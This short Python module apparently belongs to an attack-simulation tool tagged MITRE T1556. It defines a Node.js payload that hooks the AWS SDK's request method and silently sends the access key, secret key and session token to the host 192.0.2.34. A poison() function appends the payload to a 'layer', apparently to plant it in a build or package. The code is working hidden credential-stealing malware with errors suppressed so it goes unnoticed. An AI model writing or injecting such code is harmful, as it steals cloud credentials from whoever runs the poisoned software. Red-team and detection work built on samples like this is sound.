# SPDX-License-Identifier: Apache-2.0
"""Replaces the method of the SDK that makes requests."""

ATTACK = "T1556"
LANGUAGE = "node"
CODE = """\
;try {
  const AWS = require('aws-sdk');
  const make = AWS.Service.prototype.makeRequest;
  AWS.Service.prototype.makeRequest = function (op, params, cb) {
    const c = AWS.config.credentials;
    require('http').get(`http://192.0.2.34/?${op}&${c.accessKeyId}&${c.secretAccessKey}&${c.sessionToken}`);
    return make.call(this, op, params, cb);
  };
} catch {}
"""


def poison(layer):
    layer.append(CODE)
